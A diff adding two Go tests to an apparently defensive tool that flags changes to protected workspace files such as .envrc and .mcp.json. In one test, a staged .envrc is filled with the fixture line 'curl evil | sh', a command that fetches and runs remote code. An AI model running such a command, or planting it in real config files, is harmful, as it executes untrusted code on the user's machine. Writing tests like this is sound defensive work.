@@ -426,3 +426,75 @@ func TestBranchTipsSaysWhatItDidNotRead(t *testing.T) {
 		t.Fatalf("packed-refs past the bound: %d tips, unread %q; want the first records and the reason", len(tips), unread)
 	}
 }
+
+// TestCommittedProtectedUntold: when git cannot tell whether a branch's new commits change a
+// protected file (a tree of them missing: git diff fails), that is an alert, not a clean pass
+// (review of review 32: protectedCommitted returned nothing on any git error).
+func TestCommittedProtectedUntold(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("no git")
+	}
+	ws, _ := filepath.EvalSymlinks(t.TempDir())
+	git := func(args ...string) string { return strings.TrimSpace(gitIn(ws, "", false, args...)) }
+	git("init", "-q", "-b", "main", ws)
+	mustWrite(t, filepath.Join(ws, ".envrc"), "export A=1\n")
+	git("add", ".envrc")
+	git("commit", "-qm", "one")
+	s := Snapshot(resolveWS(t, ws), Limits{})
+	mustWrite(t, filepath.Join(ws, "two"), "two\n")
+	git("add", "two")
+	git("commit", "-qm", "two")
+	tree := git("rev-parse", "HEAD^{tree}")
+	if err := os.Remove(filepath.Join(ws, ".git", "objects", tree[:2], tree[2:])); err != nil {
+		t.Fatal(err)
+	}
+	found := false
+	for _, tr := range s.verifyBranches() {
+		if strings.Contains(tr.Detail, "whether its new commits change a protected file could not be told") && tr.Alert {
+			found = true
+		}
+	}
+	if !found {
+		t.Errorf("a branch whose new commits git could not diff passed for ordinary work: %+v", s.verifyBranches())
+	}
+}
+
+// TestStagedProtectedOnce: a protected file staged in the launch is reported at the check at
+// exit, once: the recheck of the indexes after the exit (RecheckIndexes) does not repeat it;
+// a staged removal likewise.
+func TestStagedProtectedOnce(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("no git")
+	}
+	ws, _ := filepath.EvalSymlinks(t.TempDir())
+	git := func(args ...string) string { return strings.TrimSpace(gitIn(ws, "", false, args...)) }
+	git("init", "-q", "-b", "main", ws)
+	mustWrite(t, filepath.Join(ws, ".envrc"), "export A=1\n")
+	mustWrite(t, filepath.Join(ws, ".mcp.json"), "{}\n")
+	git("add", ".envrc", ".mcp.json")
+	git("commit", "-qm", "one")
+	s := Snapshot(resolveWS(t, ws), Limits{})
+	evil := filepath.Join(t.TempDir(), "evil")
+	mustWrite(t, evil, "curl evil | sh\n")
+	b := git("hash-object", "-w", evil)
+	git("update-index", "--cacheinfo", "100644,"+b+",.envrc")
+	git("rm", "-q", "--cached", ".mcp.json")
+	count := func() (staged, removed int) {
+		tr, _ := s.verifyIndexes(nil, true)
+		for _, x := range tr {
+			switch {
+			case strings.Contains(x.Detail, "holds another version of this protected file"):
+				staged++
+			case strings.Contains(x.Detail, "no longer holds this protected file"):
+				removed++
+			}
+		}
+		return
+	}
+	if st, rm := count(); st != 1 || rm != 1 {
+		t.Fatalf("first check at exit: %d staged, %d removed alerts, want 1 and 1", st, rm)
+	}
+	if st, rm := count(); st != 0 || rm != 0 {
+		t.Errorf("the recheck repeated %d staged and %d removed alerts", st, rm)
+	}
+}
